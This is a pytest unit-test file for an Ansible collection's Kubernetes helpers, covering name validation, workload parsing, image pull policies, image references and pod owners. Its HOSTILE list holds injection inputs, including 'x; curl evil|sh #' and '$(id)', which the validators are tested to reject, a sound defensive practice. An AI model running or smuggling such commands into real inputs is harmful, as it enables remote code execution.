# Copyright (c) 2026, killinit.zot contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import typing as t

import pytest

from ansible_collections.killinit.zot.plugins.module_utils._cluster.errors import InvalidNameError
from ansible_collections.killinit.zot.plugins.module_utils._cluster.objects import (
    WorkloadName,
    image_uses,
    is_name,
    name_of,
    namespace_name,
    object_name,
    owner_of,
    template_of,
)
from ansible_collections.killinit.zot.plugins.module_utils._oci.reference import Reference
from ansible_collections.killinit.zot.tests.unit.workload_objects import CLUSTER

HOSTILE = ["x; curl evil|sh #", "$(id)", "a b", "a\nb", "a\n", "\x1b[2J", "a/b", "--all", "-a", "a'b", 'a"b', "é", ""]


@pytest.mark.parametrize("text", ["a", "a-1", "a.b", "0", "a" * 253, ".".join(["a" * 60] * 4)])
def test_names(text: str) -> None:
    assert is_name(text)
    assert object_name(text) == text


@pytest.mark.parametrize("text", [*HOSTILE, "A", "a_b", "a-", "a..b", ".a", "a.", "a" * 254, ".".join(["a" * 60] * 5)])
def test_no_names(text: str) -> None:
    assert not is_name(text)
    with pytest.raises(InvalidNameError):
        object_name(text)


@pytest.mark.parametrize(
    ("value", "problem"), [(5349, "the number 5349"), (False, "the boolean False"), ([], "a list")]
)
def test_a_value_that_yaml_made_of_a_name_is_refused(value: object, problem: str) -> None:
    """0012345, no and an empty answer of AWX: as text they would be the names of other objects."""
    assert not is_name(value)
    for read in (namespace_name, object_name):
        with pytest.raises(InvalidNameError, match=f"is {problem}, not text"):
            read(value)


@pytest.mark.parametrize("value", ["", None])
def test_an_empty_namespace_says_what_to_set(value: object) -> None:
    """An empty answer of AWX, or an undefined variable with a default."""
    with pytest.raises(InvalidNameError, match="the namespace is empty: set zot_namespace"):
        namespace_name(value)


@pytest.mark.parametrize("text", [*filter(None, HOSTILE), "a.b", "A", "a" * 64])
def test_a_namespace_is_one_label(text: str) -> None:
    with pytest.raises(InvalidNameError, match="is not a valid name of a namespace"):
        namespace_name(text)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("deployment/app", "deployment/app"),
        ("Deployment/app", "deployment/app"),
        ("deploy/app", "deployment/app"),
        ("deployments.apps/app.v2", "deployment/app.v2"),
        ("sts/app", "statefulset/app"),
        ("DS/app", "daemonset/app"),
        ("CronJob/app", "cronjob/app"),
        ("cj/app", "cronjob/app"),
    ],
)
def test_workloads(text: str, name: str) -> None:
    assert str(WorkloadName.parse(text)) == name


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("app", "'app' does not name a kind: write it as deployment/app"),
        ("pod/app", "'pod' in 'pod/app' is not one of the kinds CronJob, DaemonSet, Deployment, StatefulSet"),
        ("/app", "'' in '/app' is not one of the kinds"),
        ("deployment/", "'' is not a valid name"),
        ("deployment/App", "'App' is not a valid name"),
        ("deployment/a/b", "'a/b' is not a valid name"),
        ("deployment/\x1b[2J", "'\\x1b[2J' is not a valid name"),
    ],
)
def test_no_workloads(text: str, message: str) -> None:
    """The message can be printed."""
    with pytest.raises(InvalidNameError) as caught:
        WorkloadName.parse(text)
    assert message in str(caught.value)
    assert str(caught.value).isprintable()


DIGEST = "sha256:" + "1" * 64


def found(scenario: str, name: str) -> dict[str, t.Any]:
    (workload,) = [each for each in CLUSTER[scenario]["workloads"] if each["metadata"]["name"] == name]
    return workload  # type: ignore[no-any-return]


def test_a_captured_deployment_names_three_images() -> None:
    workload = found("fresh", "openclaw")
    uses = image_uses(template_of(workload)["spec"])
    assert name_of(workload) == "deployment/openclaw"
    assert [(use.kind, use.name, use.image, use.pull_policy, use.path) for use in uses] == [
        ("init container", "sidecar", "oci.killinit.cc/openclaw/tool:latest", "Always", ("initContainers", 0)),
        ("container", "app", "oci.killinit.cc/openclaw/openclaw:latest", "Always", ("containers", 0)),
        ("image volume", "workspace", "oci.killinit.cc/openclaw/workspace:latest", "Always", ("volumes", 0)),
    ]


def test_template_of_a_cron_job() -> None:
    template = {"spec": {"containers": []}}
    spec = {"schedule": "@daily", "jobTemplate": {"spec": {"template": template}}}
    assert template_of({"kind": "CronJob", "spec": spec}) == template


def test_only_volumes_of_images_count_and_keep_their_place() -> None:
    volumes = [{"name": "cache", "emptyDir": {}}, {"name": "data", "image": {"reference": "h.example/data:1"}}]
    (use,) = image_uses({"containers": [], "initContainers": None, "volumes": volumes})
    assert (use.name, use.path, use.pull_policy) == ("data", ("volumes", 1), "IfNotPresent")


def test_an_image_that_another_controller_fills_in_later() -> None:
    """A template may leave it out."""
    (use,) = image_uses({"containers": [{"name": "app"}]})
    assert (use.image, use.reference()) == ("", None)


@pytest.mark.parametrize(
    ("image", "policy"),
    [
        ("h.example/app:latest", "Always"),
        ("h.example/app", "Always"),
        ("app", "Always"),
        ("h.example:5000/app", "Always"),
        ("h.example:5000/app:1", "IfNotPresent"),
        ("h.example/app:not-latest", "IfNotPresent"),
        (f"h.example/app@{DIGEST}", "IfNotPresent"),
        (f"h.example/app:1@{DIGEST}", "IfNotPresent"),
    ],
)
@pytest.mark.parametrize("given", [None, "Never"])
def test_pull_policy(image: str, policy: str, given: str | None) -> None:
    """The default of Kubernetes, where none is given."""
    own, mounted = ({} if given is None else {name: given} for name in ("imagePullPolicy", "pullPolicy"))
    specification = {
        "containers": [{"name": "app", "image": image, **own}],
        "volumes": [{"name": "data", "image": {"reference": image, **mounted}}],
    }
    assert [use.pull_policy for use in image_uses(specification)] == [given or policy] * 2


@pytest.mark.parametrize(
    "name", ["badname", "deadline", "latestdigest", "nopull", "novolume", "zero"], ids=lambda name: f"odd-{name}"
)
def test_pull_policy_is_what_kubernetes_filled_in(name: str) -> None:
    """Each of these was applied without a policy, and read back with one."""
    specification = template_of(found("odd", name))["spec"]
    bare: dict[str, t.Any] = {
        "containers": [{"name": each["name"], "image": each["image"]} for each in specification["containers"]],
        "volumes": [
            {"name": each["name"], "image": {"reference": each["image"]["reference"]}}
            for each in specification.get("volumes", [])
        ],
    }
    ours = {use.image: use.pull_policy for use in image_uses(bare)}
    assert ours == {use.image: use.pull_policy for use in image_uses(specification)}


@pytest.mark.parametrize(
    ("image", "parts", "followed", "pinned"),
    [
        ("h.example/a/b:1", ("h.example", "a/b", "1"), "h.example/a/b:1", None),
        ("h.example/a/b", ("h.example", "a/b", "latest"), "h.example/a/b:latest", None),
        (f"h.example/a@{DIGEST}", ("h.example", "a", None, DIGEST), f"h.example/a@{DIGEST}", f"h.example/a@{DIGEST}"),
        (f"h.example/a:1@{DIGEST}", ("h.example", "a", "1", DIGEST), "h.example/a:1", f"h.example/a@{DIGEST}"),
        *((text, None, None, None) for text in ("nginx:1", "library/nginx:1", "oci.killinit.cc/openclaw/UPPER:1")),
        *((text, None, None, None) for text in ("h.example/a@sha256:12", "h.example/a:")),
    ],
)
def test_reference(image: str, parts: t.Any, followed: str | None, pinned: str | None) -> None:
    """Neither an image of Docker Hub, which names no registry, nor a malformed one has a reference."""
    (use,) = image_uses({"containers": [{"name": "app", "image": image}]})
    assert use.reference() == (parts and Reference(*parts))
    assert [each and str(each) for each in (use.followed(), use.pinned())] == [followed, pinned]


def pod(*owners: tuple[str, str, bool], code: str | None = None, api: str = "apps/v1") -> dict[str, t.Any]:
    references = [
        {"apiVersion": api, "kind": kind, "name": name, "controller": controller} for kind, name, controller in owners
    ]
    labels = {"labels": {"pod-template-hash": code}} if code else {}
    return {"metadata": {"name": "p", "ownerReferences": references, **labels}}


@pytest.mark.parametrize(
    ("pod", "owner"),
    [
        pytest.param({"metadata": {"name": "p", "ownerReferences": None}}, None, id="nobody's"),
        pytest.param(pod(("ReplicaSet", "a-b-77", True), code="77"), ("Deployment", "a-b"), id="of a Deployment"),
        pytest.param(pod(("ReplicaSet", "a-77", True)), None, id="of a ReplicaSet alone"),
        pytest.param(pod(("ReplicaSet", "a-77", True), code="78"), None, id="of a ReplicaSet with another hash"),
        pytest.param(pod(("ReplicaSet", "a77", True), code="77"), None, id="the hash is part of the name"),
        pytest.param(pod(("Job", "a", True)), None, id="of a Job"),
        pytest.param(pod(("Fleet", "a-77", True), code="77"), None, id="of another kind with a hash"),
        pytest.param(pod(("StatefulSet", "a", False)), None, id="not its controller"),
        pytest.param(pod(("Node", "n", False), ("DaemonSet", "a", True)), ("DaemonSet", "a"), id="the second controls"),
        # As OpenKruise has it.
        *(
            pytest.param(pod((kind, "a-77", True), code="77", api="apps.kruise.io/v1beta1"), None, id=f"another {kind}")
            for kind in ("StatefulSet", "DaemonSet", "ReplicaSet")
        ),
    ],
)
def test_owner(pod: dict[str, t.Any], owner: tuple[str, str] | None) -> None:
    assert owner_of(pod) == owner
